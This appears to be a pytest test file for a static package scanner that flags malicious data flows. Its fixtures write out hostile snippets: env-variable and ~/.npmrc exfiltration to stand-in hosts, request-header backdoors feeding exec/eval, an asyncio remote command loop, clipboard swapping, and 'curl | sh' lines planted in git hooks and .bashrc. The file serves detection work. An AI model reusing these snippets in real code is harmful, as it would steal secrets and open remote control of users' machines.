"""What a process is given on its standard input, and what a request from outside decides, is followed."""

import pytest
from tests.static.reading import package

FETCH = "import subprocess, sys, requests\ncode = requests.get('https://cdn.example/b').text\n"


def told(source: str, path: str) -> set[str]:
    return {b.rpartition(" @ ")[0] for b in package({path: source})}


@pytest.mark.parametrize(
    "source",
    [
        "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\np.communicate(code.encode())\n",
        "p = subprocess.Popen('bash', stdin=subprocess.PIPE, shell=True)\np.stdin.write(code.encode())\n",
        "subprocess.run(['python3'], input=code.encode())\n",
        "subprocess.run(['/bin/sh', '-s'], input=code, text=True)\n",
    ],
)
def test_an_interpreter_runs_what_is_written_to_it(source: str) -> None:
    found = told(FETCH + source, "pkg/__init__.py")
    assert {"code.flow network > execution"} <= found
    assert any(f.startswith("code.eval stdin ") for f in found)


@pytest.mark.parametrize(
    "source",
    [
        "subprocess.run(['python3', 'fmt.py'], input=code.encode())\n",
        "p = subprocess.Popen(['less', '-R'], stdin=subprocess.PIPE)\np.communicate(code.encode())\n",
        "subprocess.run(['sh', 'build.sh'])\n",
    ],
)
def test_any_other_program_reads_it_as_data(source: str) -> None:
    assert not any(f.startswith("code.eval stdin") for f in told(FETCH + source, "pkg/__init__.py"))


def test_a_literal_given_to_an_interpreter_is_read() -> None:
    source = (
        "const { spawn } = require('child_process')\n"
        "const child = spawn(process.execPath, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] })\n"
        "child.stdin.end(\"fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})\")\n"
    )
    assert "code.flow env:* > network" in told(source, "index.js")


@pytest.mark.parametrize(
    "source",
    [
        "const t = execSync('xclip -o', {encoding: 'utf8'}); execSync('xclip', {input: t.replace(/1[a-z]+/, 'A')})",
        "const t = spawnSync('pbpaste').stdout.toString(); spawnSync('pbcopy', [], {input: t.replace(/1[a-z]+/, 'A')})",
        "const t = execSync('xsel -b -o').toString(); const p = spawn('xsel', ['-b', '-i']); p.stdin.end(t + 'A')",
    ],
)
def test_what_stood_in_the_clipboard_is_put_back_changed(source: str) -> None:
    head = "const { execSync, spawnSync, spawn } = require('child_process');\n"
    assert "process.does clipboard-swap" in told(head + source, "index.js")
    assert "process.does clipboard-swap" not in told(
        head + source.replace("t.replace(/1[a-z]+/, 'A')", "'A'").replace("t + 'A'", "'A'"), "index.js"
    )


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        ("exports.m = (req, res) => { exec(req.headers['x-c'], (e, o) => res.end(o)) }", "command"),
        (
            "module.exports = (app) => { app.get('/x', (req, res) => res.send(String(eval(req.query.q)))) }",
            "execution",
        ),
        (
            (
                "require('http').createServer((req, res) => { let b = ''; req.on('data', (d) => { b += d }); "
                "req.on('end', () => { new Function(b)() }) }).listen(9)"
            ),
            "execution",
        ),
    ],
)
def test_what_a_client_sends_decides_what_runs(source: str, flow: str) -> None:
    assert f"code.flow request > {flow}" in told(
        "const { exec } = require('child_process');\n" + source, "index.js"
    )


@pytest.mark.parametrize(
    "source",
    [
        "exports.m = (req, res) => { exec(`git log ${req.query.since}`, (e, o) => res.end(o)) }",
        "exports.m = (req, res) => { execFile('ffmpeg', ['-i', req.body.file], () => res.end()) }",
        "exports.m = (req, res) => { res.end(eval('1 + 1')) }",
    ],
)
def test_what_is_only_a_part_of_a_command_is_no_back_door(source: str) -> None:
    found = told("const { exec, execFile } = require('child_process');\n" + source, "index.js")
    assert not any(f.startswith("code.flow request") for f in found)


def test_a_stream_of_http2_sends() -> None:
    source = (
        "const http2 = require('http2'), fs = require('fs'), os = require('os')\n"
        "const s = http2.connect('https://x.example')\n"
        "const r = s.request({ ':method': 'POST', ':path': '/u' })\n"
        "r.end(fs.readFileSync(os.homedir() + '/.npmrc'))\n"
    )
    assert {"net.http POST https://x.example/u", "code.flow file:~/.npmrc > network"} <= told(
        source, "index.js"
    )


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        ("exports.m = (req, res) => { exec(req.get('x-c'), () => res.end()) }", "header > command"),
        (
            "exports.m = (req, res) => { eval(Buffer.from(req.headers['x-c'], 'base64').toString()) }",
            "header > execution",
        ),
        (
            "const ws = new WebSocket('wss://x.example'); ws.onmessage = (e) => { exec(e.data) }",
            "network > command",
        ),
        (
            (
                "const ws = new (require('ws'))('wss://x.example'); "
                "ws.on('message', (d) => { const { run } = JSON.parse(d); exec(run) })"
            ),
            "network > command",
        ),
        (
            (
                "class F extends require('events') { async go () { this.emit('x', await (await fetch('https://x.example')).text()) } }; "
                "const f = new F(); f.on('x', (t) => new Function(t)()); f.go()"
            ),
            "network > execution",
        ),
    ],
)
def test_what_somebody_far_away_says_is_run(source: str, flow: str) -> None:
    assert f"code.flow {flow}" in told("const { exec } = require('child_process');\n" + source, "index.js")


def test_a_downloaded_program_is_no_command_that_was_sent() -> None:
    source = "const b = await (await fetch('https://x.example/p')).text(); execFile(b, ['--version']); exec(`${b} -v`)"
    found = told("import { exec, execFile } from 'child_process';\n" + source, "index.mjs")
    assert "code.flow network > command" not in found


@pytest.mark.parametrize(
    "run", ["os.popen({}).read()", "subprocess.getoutput({})", "subprocess.run({}, shell=True)"]
)
def test_an_application_of_wsgi_runs_a_header(run: str) -> None:
    source = "import os, subprocess\nclass M:\n    def __call__(self, environ, start_response):\n        return [{}]\n"
    assert "code.flow header > command" in told(
        source.format(run.format("environ['HTTP_X_K']")), "pkg/__init__.py"
    )


def test_a_loop_of_commands_that_needs_no_other_library_than_asyncio_is_read() -> None:
    source = (
        "import asyncio\nasync def go():\n    r, w = await asyncio.open_connection('c.example', 8443)\n"
        "    while line := await r.readline():\n"
        "        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)\n"
        "        w.write((await p.communicate())[0])\n"
        "def words():\n    asyncio.run(go())\n"
    )
    assert {"net.connect c.example:8443", "code.flow network > command"} <= told(source, "pkg/__init__.py")


@pytest.mark.parametrize(
    "source",
    [
        "require('fs').writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ncurl -fsSL https://x.example/h | sh\\n')",
        "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\nwget -qO- https://x.example/h | bash\\n')",
    ],
)
def test_what_git_or_a_shell_will_start_is_read_when_it_is_written(source: str) -> None:
    assert "code.flow network > execution" in told(source, "index.js")
    elsewhere = source.replace(".git/hooks/post-checkout", "docs/hook.txt").replace("/.bashrc", "/notes.txt")
    assert "code.flow network > execution" not in told(elsewhere, "index.js")


def test_so_it_is_where_a_file_is_opened_first() -> None:
    source = "with open('.git/hooks/pre-commit', 'w') as f:\n    f.write('#!/bin/sh\\nwget -qO- https://x.example/h | bash\\n')\n"
    found = package({"pkg/__init__.py": source})
    assert {"file.write .git/hooks/pre-commit", "code.flow network > execution"} <= {
        b.rpartition(" @ ")[0] for b in found if b.endswith(":2 (import)")
    }


@pytest.mark.parametrize(
    "source",
    [
        "const p = new URLSearchParams(); for (const [k, v] of Object.entries(process.env)) p.append(k, v)\nfetch('https://x.example/?' + p)",
        "const f = new FormData(); f.set('e', new Blob([JSON.stringify(process.env)]))\nfetch('https://x.example', { method: 'POST', body: f })",
    ],
)
def test_what_is_put_into_a_form_is_sent_with_it(source: str) -> None:
    assert "code.flow env:* > network" in told(source, "index.js")


def test_pieces_of_a_text_come_from_where_it_came_from() -> None:
    source = (
        "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nout = b''\n"
        "for part in (repr(dict(os.environ)) + '.x.example').split('.'):\n    out += part.encode()\n"
        "s.sendto(out, ('192.0.2.53', 53))\n"
    )
    assert "code.flow env:* > network" in told(source, "pkg/__init__.py")
